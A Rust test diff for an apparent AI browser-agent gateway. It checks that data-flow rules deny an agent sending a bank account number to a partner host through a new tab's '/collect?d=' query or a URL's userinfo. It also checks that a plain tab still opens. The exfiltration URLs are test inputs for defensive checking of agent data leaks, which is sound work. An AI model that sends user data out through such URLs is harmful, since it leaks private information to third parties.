@@ -408,3 +408,45 @@ async fn printed_numbers_sent_without_their_grouping_are_refused_and_a_date_is_n
     })
     .await;
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_new_tab_and_a_urls_userinfo_are_sinks_too() {
+    with_browser(|h| async move {
+        let partner = Partner::start().await;
+        let gateway = gateway(&h, &partner, FlowMode::Deny, None).await;
+        let agent = Arc::new(gateway.agent_session());
+        agent.call(navigate(h.site.url("flow/bank.html"))).await;
+
+        let new_tab = ToolCall::Window(airlock_gateway::Window::Tabs(
+            airlock_gateway::TabAction::New(Some(partner.url(&format!("/collect?d={ACCOUNT}")))),
+        ));
+        let out = agent.call(new_tab).await;
+        assert_eq!(out.error, Some(ErrorCode::PolicyDenied), "{}", out.text);
+        assert!(out.text.contains("data-flow"), "{}", out.text);
+        // In the userinfo (sent on a 401 Basic answer), name or password.
+        let origin = partner.origin();
+        let host = origin.trim_start_matches("http://");
+        for url in [
+            format!("http://{ACCOUNT}:x@{host}/collect"),
+            format!("http://x:{ACCOUNT}@{host}/collect"),
+        ] {
+            let out = agent.call(navigate(url.clone())).await;
+            assert_eq!(
+                out.error,
+                Some(ErrorCode::PolicyDenied),
+                "{url}: {}",
+                out.text
+            );
+            assert!(out.text.contains("data-flow"), "{url}: {}", out.text);
+        }
+        assert_eq!(partner.requests(), Vec::<String>::new());
+        // A new tab with nothing of the bank's opens there.
+        let plain = ToolCall::Window(airlock_gateway::Window::Tabs(
+            airlock_gateway::TabAction::New(Some(partner.url("/search"))),
+        ));
+        let out = agent.call(plain).await;
+        assert_eq!(out.error, None, "{}", out.text);
+        assert_eq!(partner.requests().len(), 1, "{:?}", partner.requests());
+    })
+    .await;
+}
